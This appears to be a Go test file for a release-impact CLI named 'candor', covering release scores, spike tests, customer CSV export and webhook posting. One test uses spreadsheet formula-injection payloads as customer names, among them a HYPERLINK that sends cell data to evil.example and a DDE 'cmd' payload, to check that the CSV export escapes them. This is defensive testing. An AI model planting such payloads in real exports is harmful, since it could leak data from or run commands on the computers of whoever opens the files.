package main

import (
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const releaseOrg = `{"kind":"service","id":"api","name":"API","team":"core"}
{"kind":"deployment","id":"d1","service":"api","environment":"production","finished_at":"2026-03-05T10:00:00Z","status":"success"}
{"kind":"deployment","id":"d2","service":"api","environment":"production","finished_at":"2026-03-12T10:00:00Z","status":"success"}
{"kind":"ticket","id":"k1","created_at":"2026-03-12T11:00:00Z","release":"d2","priority":"urgent","customer":"cus-1"}
{"kind":"ticket","id":"k2","created_at":"2026-03-12T12:00:00Z","service":"api","customer":"cus-2"}
{"kind":"ticket","id":"k3","created_at":"2026-03-12T13:00:00Z","service":"api","customer":"cus-1"}
{"kind":"ticket","id":"k4","created_at":"2026-03-12T14:00:00Z","service":"api"}
{"kind":"survey","id":"s1","at":"2026-03-13T10:00:00Z","type":"csat","score":2,"release":"d2"}
`

func TestReleaseCommand(t *testing.T) {
	dir := t.TempDir()
	data, in := filepath.Join(dir, "data"), filepath.Join(dir, "org.ndjson")
	os.WriteFile(in, []byte(releaseOrg), 0o600)
	mustRun(t, "import", "--data", data, in)

	list := mustRun(t, "release", "list", "--data", data, "--as-of", "2026-03-20", "--format", "json").stdout
	var doc struct {
		Window   string
		Releases []struct {
			Deployment string
			Tickets    int
		}
	}
	if err := json.Unmarshal([]byte(list), &doc); err != nil || len(doc.Releases) != 2 || doc.Releases[0].Deployment != "d2" || doc.Releases[0].Tickets != 4 {
		t.Fatalf("release list: %v\n%s", err, list)
	}
	// Each release's score as the release impact score computes it, and
	// the worst named as the metric's value: d2's urgent ticket naming it
	// (3) against no baseline; the tickets about api alone are not scored.
	text := mustRun(t, "release", "list", "--data", data, "--as-of", "2026-03-20").stdout
	for _, want := range []string{"score   3.00", "score   0.00", "release impact score: 3.00, d2 (api), the worst score"} {
		if !strings.Contains(text, want) {
			t.Errorf("release list lacks %q:\n%s", want, text)
		}
	}
	// As GET /api/v1/releases says it, and --window takes it back.
	if doc.Window != "30d" {
		t.Errorf("release list's window is %q, want 30d", doc.Window)
	}
	// Without --window, the release impact score's window in force: a
	// catalog that reads 7 days lists 7 days, as the metric's value does.
	week := filepath.Join(dir, "week.yaml")
	os.WriteFile(week, []byte("metrics:\n  release_impact_score:\n    window: 7d\n"), 0o600)
	weekData := filepath.Join(dir, "week")
	mustRun(t, "import", "--data", weekData, "--config", week, in)
	var weekDoc struct{ Window string }
	if out := mustRun(t, "release", "list", "--data", weekData, "--config", week, "--as-of", "2026-03-20", "--format", "json").stdout; json.Unmarshal([]byte(out), &weekDoc) != nil || weekDoc.Window != "7d" {
		t.Errorf("release list with the metric's window 7d: %s", out)
	}
	show := mustRun(t, "release", "show", "d2", "--data", data, "--as-of", "2026-03-20").stdout
	for _, want := range []string{"4 tickets, 1 naming the release, 3 about api", "CSAT of surveys naming it: 2.00 from 1 response", "Poisson upper tail p < 0.0001: as many would come by chance less than 1 time in 10,000", "import/k1"} {
		if !strings.Contains(show, want) {
			t.Errorf("release show lacks %q:\n%s", want, show)
		}
	}
	// Customers: cus-1 (urgent 3 + 1), cus-2 (1); k4 names none.
	csv := mustRun(t, "release", "customers", "d2", "--data", data, "--as-of", "2026-03-20", "--format", "csv").stdout
	lines := strings.Split(strings.TrimSpace(csv), "\n")
	if len(lines) != 3 || lines[0] != "customer,tickets,weighted,first_ticket_at" || !strings.HasPrefix(lines[1], "cus-1,2,4,") || !strings.HasPrefix(lines[2], "cus-2,1,1,") {
		t.Errorf("customers csv:\n%s", csv)
	}
	// With no --format the customers are CSV, as their help says; text,
	// which had given CSV too, is a table.
	if def := mustRun(t, "release", "customers", "d2", "--data", data, "--as-of", "2026-03-20").stdout; def != csv {
		t.Errorf("customers without --format:\n%s\nwant the CSV:\n%s", def, csv)
	}
	text = mustRun(t, "release", "customers", "d2", "--data", data, "--as-of", "2026-03-20", "--format", "text").stdout
	tl := strings.Split(strings.TrimSpace(text), "\n")
	if len(tl) != 3 || strings.Contains(text, ",") || !strings.HasPrefix(strings.Join(strings.Fields(tl[1]), " "), "cus-1 2 4 2026-03-12") {
		t.Errorf("customers text:\n%s", text)
	}
	if r := run(t, "release", "customers", "nope", "--data", data); r.code == 0 || !strings.HasPrefix(r.stderr, "candor release customers: no production deployment import/nope") {
		t.Errorf("unknown release: %d %s", r.code, r.stderr)
	}
	if r := run(t, "release", "customers", "d2", "--data", data, "--send"); r.code != 2 || !strings.Contains(r.stderr, "impact.survey_webhook") {
		t.Errorf("--send without a webhook: %d %s", r.code, r.stderr)
	}

	// With a survey webhook configured, --send posts the customers.
	var got []byte
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { got, _ = io.ReadAll(r.Body) }))
	defer hook.Close()
	cfg := filepath.Join(dir, "candor.yaml")
	os.WriteFile(cfg, []byte("impact:\n  survey_webhook: "+hook.URL+"\n"), 0o600)
	mustRun(t, "release", "customers", "d2", "--data", data, "--config", cfg, "--as-of", "2026-03-20", "--send")
	if !strings.Contains(string(got), `"customer":"cus-1"`) || !strings.Contains(string(got), `"release":"d2"`) {
		t.Errorf("webhook body: %s", got)
	}
	// A survey webhook that redirects does not get the customers re-posted
	// where it points: the command fails, naming the status and Location.
	got = nil
	moved := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, hook.URL+"/elsewhere", http.StatusTemporaryRedirect)
	}))
	defer moved.Close()
	os.WriteFile(cfg, []byte("impact:\n  survey_webhook: "+moved.URL+"\n"), 0o600)
	if r := run(t, "release", "customers", "d2", "--data", data, "--config", cfg, "--as-of", "2026-03-20", "--send"); r.code == 0 || got != nil ||
		!strings.Contains(r.stderr, "307") || !strings.Contains(r.stderr, "Location "+hook.URL+"/elsewhere") {
		t.Errorf("a redirecting survey webhook: %d %s; the redirect's target got %s", r.code, r.stderr, got)
	}

	ins := mustRun(t, "insights", "--data", data, "--as-of", "2026-03-20").stdout
	if !strings.Contains(ins, "Nothing to report:") || !strings.Contains(ins, "Deploy time risk: no weekday and hour band had 20") {
		t.Errorf("insights:\n%s", ins)
	}
	if r := run(t, "insights", "--data", data, "--window", "soon"); r.code != 2 || !strings.Contains(r.stderr, "--window") {
		t.Errorf("bad window: %d %s", r.code, r.stderr)
	}
}

// Each release subcommand's help gives its own usage line, once: they had
// read "candor release list list [...]" and "candor release show list".
func TestReleaseHelpUsage(t *testing.T) {
	for sub, want := range map[string]string{
		"list":      "usage: candor release list [--as-of T] [--window W] [--service S] [--format text|json]\n\n",
		"show":      "usage: candor release show DEPLOYMENT [--source S] [--as-of T] [--format text|json]\n\n",
		"customers": "usage: candor release customers DEPLOYMENT [--source S] [--as-of T] [--format csv|text|json] [--send]\n\n",
	} {
		r := mustRun(t, "release", sub, "-h")
		if !strings.HasPrefix(r.stdout, want) {
			t.Errorf("candor release %s -h:\n%s\nwant it to start %q", sub, r.stdout, want)
		}
	}
	if r := mustRun(t, "release", "customers", "-h"); !strings.Contains(r.stdout, `(default "csv")`) {
		t.Errorf("release customers' --format does not say its default is csv:\n%s", r.stdout)
	}
}

// A customer named like a formula (a ticket's requester types it) is
// text in the CSV a spreadsheet opens, not a formula it runs; the JSON
// keeps the name as it is.
func TestReleaseCustomersCSVFormulas(t *testing.T) {
	dir := t.TempDir()
	data, in := filepath.Join(dir, "data"), filepath.Join(dir, "org.ndjson")
	org := `{"kind":"service","id":"api","name":"API","team":"core"}
{"kind":"deployment","id":"d1","service":"api","environment":"production","finished_at":"2026-03-12T10:00:00Z","status":"success"}
{"kind":"ticket","id":"k1","created_at":"2026-03-12T11:00:00Z","service":"api","customer":"=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"}
{"kind":"ticket","id":"k2","created_at":"2026-03-12T11:01:00Z","service":"api","customer":"@SUM(1+1)"}
{"kind":"ticket","id":"k3","created_at":"2026-03-12T11:02:00Z","service":"api","customer":"+cmd|' /C calc'!A0"}
{"kind":"ticket","id":"k4","created_at":"2026-03-12T11:03:00Z","service":"api","customer":"-2+3"}
{"kind":"ticket","id":"k5","created_at":"2026-03-12T11:04:00Z","service":"api","customer":"cus-5"}
`
	os.WriteFile(in, []byte(org), 0o600)
	mustRun(t, "import", "--data", data, in)
	out := mustRun(t, "release", "customers", "d1", "--data", data, "--as-of", "2026-03-20", "--format", "csv").stdout
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 6 {
		t.Fatalf("customers csv: %v\n%s", err, out)
	}
	got := map[string]bool{}
	for _, r := range rows[1:] {
		got[r[0]] = true
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/"&A1,"x")`, "'@SUM(1+1)", "'+cmd|' /C calc'!A0", "'-2+3", "cus-5"} {
		if !got[want] {
			t.Errorf("customers csv lacks the cell %q:\n%s", want, out)
		}
	}
	js := mustRun(t, "release", "customers", "d1", "--data", data, "--as-of", "2026-03-20", "--format", "json").stdout
	if !strings.Contains(js, `"=HYPERLINK(`) || strings.Contains(js, `'=HYPERLINK`) {
		t.Errorf("the JSON does not keep the customer as it is:\n%s", js)
	}
}

// The spike test in text says what the page says of it: the span's end
// (the next release when that came first), "no baseline" where the
// previous weeks held no ticket, and "1 ticket". It had said "1 tickets vs
// 0.0 expected" of a release whose test had stopped at the service's next
// release, without saying so.
func TestReleaseSpikeText(t *testing.T) {
	dir := t.TempDir()
	data, in := filepath.Join(dir, "data"), filepath.Join(dir, "org.ndjson")
	os.WriteFile(in, []byte(`{"kind":"service","id":"api","name":"API","team":"core"}
{"kind":"deployment","id":"e1","service":"api","environment":"production","finished_at":"2026-03-10T10:00:00Z","status":"success"}
{"kind":"deployment","id":"e2","service":"api","environment":"production","finished_at":"2026-03-10T12:00:00Z","status":"success"}
{"kind":"ticket","id":"k1","created_at":"2026-03-10T11:00:00Z","service":"api"}
`), 0o600)
	mustRun(t, "import", "--data", data, in)
	want := "no spike: 1 ticket to 2026-03-10 12:00 (its next release) vs no baseline (previous weeks [0 0 0 0])"
	list := mustRun(t, "release", "list", "--data", data, "--as-of", "2026-03-20").stdout
	if !strings.Contains(list, want) || !strings.Contains(list, "   1 ticket (1 by service)") {
		t.Errorf("release list lacks %q or \"1 ticket (1 by service)\":\n%s", want, list)
	}
	show := mustRun(t, "release", "show", "e1", "--data", data, "--as-of", "2026-03-20").stdout
	if !strings.Contains(show, "Spike test: "+want) {
		t.Errorf("release show lacks %q:\n%s", want, show)
	}
}
